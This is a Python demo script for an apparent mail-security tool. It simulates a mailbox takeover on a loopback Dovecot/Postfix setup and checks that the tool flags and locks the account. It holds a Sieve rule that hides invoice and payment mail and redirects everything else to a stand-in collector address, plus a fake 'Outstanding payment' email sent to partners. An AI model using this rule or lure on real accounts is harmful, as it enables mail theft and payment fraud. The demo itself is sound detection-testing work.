# SPDX-License-Identifier: Apache-2.0
"""The demo's second attack: the mailbox of one of the firm's own people in foreign hands, on a real Dovecot and Postfix.

Place in the flow: contrib/demo/play.py. Weeks of the firm's logins are written as Dovecot's log has them and imported; then its people
and the attacker really log in, from addresses of the loopback network (127.0.0.0/8). Covered by contrib/quickstart in CI and by
tests/e2e/story_test.py.
"""

import datetime
import os
import random
import re
import smtplib
import sys
import textwrap
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', '..', 'tests', 'support'))
from dovecot import Dovecot  # noqa: E402
from kith_site import Daemon, program, wait_until  # noqa: E402
from postfix import free_ports, queue_id_of  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
DAY = 86400
OFFICE = '127.10.0.%d'
SOURCES = ('127.77.1.9', '127.78.2.9', '127.79.3.9')
# Below Postfix's queue directory, where its programs find it with and without a chroot.
SASL = 'dovecot-auth'
POSTFIX = 'smtpd_sasl_auth_enable = yes\nsmtpd_sasl_type = dovecot\nsmtpd_sasl_path = %s\n' % SASL
EXPECTED = (
    'Login From Rare Endpoint While User Is Active',
    'Multiple Unusual External Sources For Credential',
    'Unusual Login And Account Update',
    'Suspicious Mail Rule',
)
RULE = """require ["fileinto", "imap4flags"];
if header :contains "subject" ["invoice", "payment", "bank"] {
  addflag "\\\\Seen";
  fileinto "RSS Feeds";
  stop;
}
redirect "backup@collector.example";
"""


class Office:
    """The firm's people at their mail programs: each from the office, many from home, with hours of their own."""

    def __init__(self, addresses, seed):
        self.rng = random.Random('logins/%d' % seed)
        self.people = [
            {
                'name': a,
                'office': OFFICE % (10 + i % 200),
                'home': '127.20.%d.7' % i if self.rng.random() < 0.6 else None,
                'begins': self.rng.gauss(8, 0.7),
                'reads': self.rng.lognormvariate(2.3, 0.6),
            }
            for i, a in enumerate(sorted(addresses))
        ]

    def log(self, days, until):
        """what Dovecot's log has of them, oldest line first"""
        lines = []
        for day in range(days, 0, -1):
            midnight = (until - day * DAY) // DAY * DAY
            if datetime.datetime.fromtimestamp(midnight, datetime.timezone.utc).weekday() >= 5:
                continue
            for p in self.people:
                self._day(p, midnight, lines)
        lines.sort()
        return ''.join('%s\n' % line for _, line in lines)

    def _day(self, person, midnight, lines):
        rng = self.rng
        if rng.random() < 0.08:
            return  # ill, or away
        for part in range(rng.randrange(1, 4)):
            start = midnight + 3600 * (person['begins'] + 3 * part) + rng.randrange(1800)
            at_home = person['home'] and rng.random() < 0.25
            self._session(person, start, person['home'] if at_home else person['office'], lines)

    def _session(self, person, start, source, lines):
        rng = self.rng
        session = '%012x' % rng.randrange(1 << 48)
        reads = int(rng.expovariate(1 / person['reads']))

        def line(t, text):
            stamp = datetime.datetime.fromtimestamp(int(t), datetime.timezone.utc).strftime('%Y-%m-%dT%H:%M:%S+00:00')
            lines.append((int(t), '%s mail1 dovecot: %s' % (stamp, text)))

        line(
            start,
            'imap-login: Login: user=<%s>, method=PLAIN, rip=%s, lip=127.0.0.1, mpid=%d, session=<%s>'
            % (person['name'], source, rng.randrange(1000, 30000), session),
        )
        line(
            start + rng.randrange(600, 7200),
            'imap(%s)<%d><%s>: Disconnected: Logged out in=900 out=20000 deleted=0 expunged=0 trashed=0 hdr_count=0 hdr_bytes=0 '
            'body_count=%d body_bytes=%d' % (person['name'], rng.randrange(1000, 30000), session, reads, reads * 30000),
        )


class Mailserver:
    """Dovecot as conf/dovecot shows it, with kith-accounts behind it, on the site of the demo."""

    def __init__(self, build, site, logins):
        self.site, self.logins, self.service = site, logins, None
        self.program = program(build, 'kith-accounts')
        port = free_ports(1)[0]
        with open(os.path.join(HERE, '../../conf/dovecot/kith-accounts.conf'), encoding='utf-8') as f:
            lines = f.read().replace(':8417', ':%d' % port)
        self.dovecot = Dovecot(logins, lines)
        self.dovecot.sasl = os.path.join(site.postfix.spool, SASL)
        self.dovecot.configure(lines)
        site.configure(
            {
                'accounts': {
                    'listen': 'inet:%d@127.0.0.1' % port,
                    'enforce': True,
                    'doveadm': self.dovecot.api_url,
                    'doveadm_key_file': self.dovecot.api_key_file,
                    'trouble_file': os.path.join(site.dir, 'accounts.trouble'),
                }
            }
        )

    def start(self):
        self.dovecot.start()
        self.service = Daemon(
            [self.program, '--config', self.site.config_file, '--stderr'], os.path.join(self.site.dir, 'accounts.log')
        )
        wait_until(
            lambda: ' serving' in ' ' + self.service.log() or not self.service.alive,
            lambda: 'kith-accounts to serve; its log:\n' + self.service.log(),
            30,
        )

    def stop(self):
        try:
            if self.service is not None:
                self.service.stop()
        finally:
            self.dovecot.stop()

    def submit(self, user, source, number, to):
        """(code, text) of a mail that this user submits, as Postfix answers it"""
        smtp = smtplib.SMTP(source_address=(source, 0), timeout=60)
        smtp.connect('127.0.0.1', self.site.postfix.submission)
        try:
            smtp.ehlo('client.test')
            smtp.login(user, self.logins[user])
            smtp.mail(user)
            smtp.rcpt(to)
            code, text = smtp.data(request(user, number, to).replace(b'\n', b'\r\n'))
            return code, text.decode('utf-8', 'replace')
        except smtplib.SMTPAuthenticationError as e:
            return e.smtp_code, e.smtp_error.decode('utf-8', 'replace')
        finally:
            smtp.close()


def request(sender, number, to):
    return (
        'From: %s\nTo: %s\nMessage-ID: <payment-%d@%s>\nSubject: Outstanding payment\n'
        'Date: %s\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n'
        'Hello,\n\nplease confirm the outstanding payment here today:\nhttps://forms.askly.example/r/%d\n\nThank you\n'
        % (
            sender,
            to,
            number,
            sender.split('@')[1],
            datetime.datetime.now(datetime.timezone.utc).strftime('%a, %d %b %Y %H:%M:%S +0000'),
            number,
        )
    ).encode()


def session_of(server, user, source, fetch=0):
    """a real IMAP session that reads so many mails"""
    session = server.dovecot.imap(user, source)
    session.select('INBOX')
    if fetch:
        session.fetch('1:%d' % fetch, '(BODY[])')
    return session


def fill(server, user, source, count):
    session = server.dovecot.imap(user, source)
    for n in range(count):
        session.append('INBOX', None, None, b'From: a@b.example\r\nSubject: %d\r\n\r\nMail %d.\r\n' % (n, n))
    session.logout()


def attack(server, victim, partners):
    """The victim works, somebody else logs in from three networks, hides answers, sends mail on, and asks partners for payment.
    Queue ids of what went out."""
    own = session_of(server, victim['name'], victim['office'], 3)
    for source in SOURCES:
        session_of(server, victim['name'], source, 60).logout()
    own.noop()
    sieve = server.dovecot.sieve(victim['name'], SOURCES[0])
    sieve.put('main', RULE)
    sieve.command('SETACTIVE "main"')
    sieve.close()
    time.sleep(2)  # nobody is that quick, and steps are told by the second
    sent = [server.submit(victim['name'], SOURCES[0], n, to) for n, to in enumerate(partners)]
    own.logout()
    wrong = [x for x in sent if x[0] != 250]
    if wrong:
        raise RuntimeError('submission was answered %d %s' % wrong[0])
    return [queue_id_of(text) for _, text in sent]


def folded(text, width=150):
    """a command's answer as a terminal of this width would fold it; wide columns lose their blanks"""
    out = []
    for line in text.rstrip().splitlines():
        indent = ' ' * (len(line) - len(line.lstrip()))
        line = indent + re.sub(r' {3,}', '  ', line.strip())
        out += textwrap.wrap(line, width, initial_indent='  ', subsequent_indent='      ' + indent) or ['']
    return '\n'.join(out)


def incident_of(site, account):
    """the open incident of the account, with every step that is waited for"""

    def look():
        found = [i for i in site.kith_json('incident', 'list')['accounts'] if i['account'] == account]
        names = {n for i in found for n in i['indicators']}
        sent = any(s['text'].startswith('sends mail') for i in found for s in i['steps'])
        return found[0] if names.issuperset(EXPECTED) and sent else None

    return wait_until(
        look,
        lambda: 'the incident of %s; there is:\n%s\nlearner:\n%s'
        % (account, site.kith('incident', 'list', check=False).stdout, site.learner.log()[-2000:]),
        60,
    )


def play(server, site, victim, partners):
    """The attack, what kith shows of it, and the account locked. True when all of it is as it should be."""
    fill(server, victim['name'], victim['office'], 60)
    attack(server, victim, partners)
    incident = incident_of(site, victim['name'])
    print('\n$ kith incident show %s' % incident['id'])
    print(folded(site.kith('incident', 'show', incident['id']).stdout) + '\n')
    command = ['account', 'lock', victim['name'], '--for', '4h', '--reason', 'somebody else has the password']
    print('$ kith ' + ' '.join("'%s'" % x if ' ' in x else x for x in command))
    locked = site.kith(*command, '--postfix-config', site.postfix.etc, check=False)
    print(textwrap.indent(locked.stdout.rstrip(), '  '))

    def refused():
        code, text = server.submit(victim['name'], SOURCES[0], 99, partners[0])
        return text if code != 250 and 'account locked until' in text else None

    answer = wait_until(refused, 'the lock to be seen', 30)
    print('  the next login for sending: %s\n' % re.sub(r'\s+', ' ', answer))
    return locked.returncode == 0
